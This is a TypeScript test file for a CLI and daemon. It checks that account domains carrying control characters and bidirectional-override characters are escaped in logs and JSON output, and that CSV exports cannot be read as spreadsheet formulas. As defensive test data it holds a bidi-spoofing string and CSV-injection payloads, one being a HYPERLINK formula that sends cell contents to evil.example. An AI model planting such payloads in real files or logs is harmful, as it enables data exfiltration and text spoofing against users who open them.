import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { plimsoll } from '../support/command.ts'
import { type Daemon, spawnDaemon } from '../support/daemon.ts'
import { connectAccount, eventually, freePort, send } from '../support/fleet.ts'
import { openScene, type Scene } from '../support/scene.ts'

/** What moves a cursor or changes the order of what stands around it: C1, delete, all that says which way letters run. */
const UNSEEN = /[\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/
const HOSTILE = 'a\u009b1m\u0085b\u202eevil\u2066x\u200f\u200e\u061c\u2069'
/** By hubId: what a sheet would calculate, also after an apostrophe of its own. */
const FORMULAS: Record<number, string> = {
  502: '=HYPERLINK("https://evil.example/?a="&A1;"x")',
  503: '+1,-2;＝3',
  504: "'@SUM(A1)",
  505: 'acme.example.com',
}

let scene: Scene
let file: string
const daemons: Daemon[] = []
beforeAll(async () => {
  scene = await openScene({ accounts: 0, tokenLifetimeMs: 3_600_000 })
  for (const [hubId, hubDomain] of Object.entries({ 501: HOSTILE, 601: HOSTILE, ...FORMULAS })) {
    await send(`${scene.sandbox.url}/sandbox/accounts`, 'POST', { hubId: Number(hubId), hubDomain })
  }
  file = await scene.configFile()
}, 240_000)
afterAll(async () => {
  await Promise.all(daemons.map((daemon) => daemon.stop()))
  await scene.close()
})

/** Its log as it is told to write it. Waits until it has connected these accounts. */
async function daemonThatConnects(hubIds: readonly number[], log: object): Promise<string> {
  const port = await freePort()
  const listen = { listen: `127.0.0.1:${port}`, publicUrl: `http://127.0.0.1:${port}` }
  const daemon = spawnDaemon(await scene.configFile({ log, http: listen }))
  daemons.push(daemon)
  await daemon.line(/at work/, 0)
  for (const hubId of hubIds) await connectAccount(listen.publicUrl, hubId)
  const connected = () => daemon.lines.filter((line) => line.includes('account connected'))
  await eventually('the accounts', async () => connected().length === hubIds.length)
  return connected().join('\n')
}

test('a log of JSON escapes them, and they are still there', async () => {
  const text = await daemonThatConnects([501, 502, 503, 504, 505], {})
  expect(text).not.toMatch(UNSEEN)
  expect(JSON.parse(text.split('\n')[0] ?? '')).toMatchObject({ hubId: 501, hubDomain: HOSTILE })
})

test('so does one for people', async () => {
  const text = await daemonThatConnects([601], { pretty: true })
  expect(text).not.toMatch(UNSEEN)
  expect(text).toContain('evil')
  expect(text).toContain('u202e')
})

test('--json and JSON lines escape them, and say the same', async () => {
  const said = (...args: string[]) => plimsoll([...args, '--config', file], scene.folder)
  for (const args of [
    ['accounts', 'list', '--json'],
    ['accounts', 'show', '501', '--json'],
    ['accounts', 'history', '501', '--json'],
    ['check', '--json', '--all'],
  ]) {
    const { out } = await said(...args)
    expect(out, args.join(' ')).not.toMatch(UNSEEN)
    JSON.parse(out)
    expect(out, args.join(' ')).toContain('\\u202e')
  }
  const { out } = await said('accounts', 'list', '--json')
  const listed = JSON.parse(out) as { hubId: number; hubDomain: string }[]
  expect(listed.find(({ hubId }) => hubId === 501)?.hubDomain).toBe(HOSTILE)
})

test.each(['csv', 'jsonl'])('an export as %s is imported as it was, and is no formula in a sheet', async (format) => {
  const name = `out.${format}`
  await plimsoll(['accounts', 'export', name, '--config', file], scene.folder)
  const text = readFileSync(join(scene.folder, name), 'utf8')
  expect(text).not.toMatch(UNSEEN)
  if (format === 'csv') {
    const cells = (parse(text) as string[][]).flat()
    expect(cells.length).toBeGreaterThan(30)
    expect(cells.filter((cell) => /(^|;)[\s"]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([])
  }
  const there = await scene.configFile({ redis: { url: scene.redis.url, prefix: `moved-${format}` } })
  const moved = await plimsoll(['accounts', 'import', name, '--json', '--config', there], scene.folder)
  expect(JSON.parse(moved.out)).toMatchObject({ imported: 6, bad: 0 })
  const { out } = await plimsoll(['accounts', 'list', '--json', '--config', there], scene.folder)
  const listed = JSON.parse(out) as { hubId: number; hubDomain: string }[]
  expect(listed).toEqual(
    expect.arrayContaining(
      Object.entries(FORMULAS).map(([hubId, hubDomain]) =>
        expect.objectContaining({ hubId: Number(hubId), hubDomain }),
      ),
    ),
  )
})
